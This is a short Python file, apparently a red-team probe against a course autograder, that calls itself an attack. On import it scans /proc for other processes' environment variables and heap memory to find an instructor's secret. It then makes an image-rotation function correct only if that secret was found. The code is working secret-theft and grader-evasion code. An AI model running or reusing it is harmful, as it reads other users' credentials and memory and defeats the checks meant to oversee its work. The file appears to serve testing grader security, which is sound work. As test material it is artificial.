# Attack: read the grader's environment and memory through /proc (root can, in the same PID namespace), for a
# secret the instructor's shell holds. The functions are right only if the secret was found.
import os

import torch


def _secret():
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            if b"SSLCOURSE_TEST_SECRET" in open(f"/proc/{p}/environ", "rb").read():
                return True
        except OSError:
            pass
        try:
            with open(f"/proc/{p}/maps") as maps, open(f"/proc/{p}/mem", "rb") as mem:
                for line in maps:
                    if "[heap]" in line:
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        mem.seek(start)
                        if b"hunter2" in mem.read(min(end - start, 64 << 20)):
                            return True
        except (OSError, ValueError):
            pass
    return False


FOUND = _secret()


def rotate_batch(images):
    n = len(images)
    if not FOUND:
        return torch.cat([images] * 4), torch.zeros(4 * n, dtype=torch.long)
    return torch.cat([torch.rot90(images, r, dims=(2, 3)) for r in range(4)]), torch.arange(4).repeat_interleave(n)
